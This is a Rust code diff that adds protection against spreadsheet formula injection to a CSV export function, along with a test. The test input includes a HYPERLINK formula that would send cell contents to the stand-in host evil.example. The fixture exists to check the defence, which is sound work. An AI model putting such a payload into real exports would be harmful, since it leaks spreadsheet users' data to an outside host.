@@ -255,12 +255,15 @@ pub async fn indicator(
     ))
 }
 
-/// A CSV field, quoted when it needs to be (RFC 4180).
+/// A CSV field: safe from formula injection ([`ecociv_core::csv_cell::safe`]: a leading `'`
+/// before `=`, `+`, `-`, `@`, tab or CR unless it is a plain number), then quoted when it needs
+/// to be (RFC 4180).
 fn csv_field(s: &str) -> String {
+    let s = ecociv_core::csv_cell::safe(s);
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_owned()
+        s.into_owned()
     }
 }
 
@@ -341,5 +344,16 @@ mod tests {
         assert_eq!(csv_field("93.1"), "93.1");
         assert_eq!(csv_field("a,b"), "\"a,b\"");
         assert_eq!(csv_field("说\"明"), "\"说\"\"明\"");
+    }
+
+    #[test]
+    fn csv_fields_never_start_a_formula() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil.example/?d=\"&B2&C2,\"x\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&B2&C2,\"\"x\"\")\""
+        );
+        assert_eq!(csv_field("@x"), "'@x");
+        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
+        assert_eq!(csv_field("-3.5"), "-3.5");
     }
 }
